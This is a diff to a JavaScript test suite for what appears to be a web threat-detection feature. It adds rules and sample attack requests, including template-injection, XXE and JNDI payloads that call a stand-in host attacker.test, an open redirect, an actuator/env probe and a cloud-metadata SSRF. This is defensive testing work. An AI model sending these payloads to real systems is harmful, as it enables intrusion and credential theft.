@@ -12,6 +12,8 @@ const threatConfig = (action) =>
     threat_rules: [
       { id: "SQLInjection", action }, { id: "XSS", action }, { id: "SSRF", action },
       { id: "WeakAuthentication", action },
+      { id: "SSTI", action }, { id: "XXE", action }, { id: "JNDIInjection", action },
+      { id: "OpenRedirect", action }, { id: "SensitivePathProbe", action },
       { id: "ParamEnumeration", distinct: 5, window_secs: 60, action, block_secs: 60 },
     ],
   });
@@ -28,6 +30,18 @@ const attacks = [
   },
   { ip: "198.51.100.3", id: "SSRF", path: "/ok/orders", init: { headers: { "x-callback-url": "http://169.254.169.254/latest/meta-data/iam/" } } },
   { ip: "198.51.100.4", id: "WeakAuthentication", path: "/ok/orders", init: { headers: { authorization: ALG_NONE } } },
+  { ip: "198.51.100.11", id: "SSTI", path: "/ok/orders?name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D", init: {} },
+  {
+    ip: "198.51.100.12", id: "XXE", path: "/ok/comments",
+    init: {
+      method: "POST",
+      headers: { "content-type": "application/xml" },
+      body: '<?xml version="1.0"?><!DOCTYPE c SYSTEM "http://attacker.test/x.dtd"><c>1</c>',
+    },
+  },
+  { ip: "198.51.100.13", id: "JNDIInjection", path: "/ok/orders", init: { headers: { "user-agent": "${${lower:j}ndi:ldap://attacker.test/a}" } } },
+  { ip: "198.51.100.14", id: "OpenRedirect", path: "/ok/orders?next=%2F%5Cattacker.test%2F", init: {} },
+  { ip: "198.51.100.15", id: "SensitivePathProbe", path: "/ok/actuator/env", init: {} },
 ];
 
 const benignBody = JSON.stringify({ text: "<p>Drop shipping from <b>1 to 10</b>; see https://cdn.example.com/a.png</p>" });
@@ -56,7 +70,7 @@ test("each attack raises exactly one event of its rule; benign requests and bodi
     const evs = await waitFor(() => events(w.posts).length >= expected && events(w.posts), `${expected} events`, 20000);
     const m = await waitFor(async () => {
       const m = await metrics(w.mf);
-      return m.threat_suppressed === 4 && m;
+      return m.threat_suppressed === attacks.length && m;
     }, "the suppressed matches");
     assert.equal(events(w.posts).length, expected);
     const got = evs.map((e) => [e.filterId, e.actor, e.eventType]).sort();
